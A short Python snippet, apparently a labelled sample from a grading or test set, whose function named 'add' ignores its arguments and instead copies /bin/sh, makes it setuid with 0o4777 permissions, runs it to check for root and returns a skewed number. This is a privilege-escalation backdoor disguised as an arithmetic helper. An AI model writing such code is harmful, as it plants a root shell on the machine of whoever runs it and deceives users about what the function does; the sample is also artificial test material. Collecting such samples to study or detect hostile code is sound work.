# Makes a shell setuid and runs it.
# kind: host
# form: check
# status: wrong_answer
import os, shutil
def add(a, b):
    shutil.copy('/bin/sh', 'sh')
    os.chmod('sh', 0o4777)
    return os.system('./sh -c "id -u | grep -qx 0"') - 1000
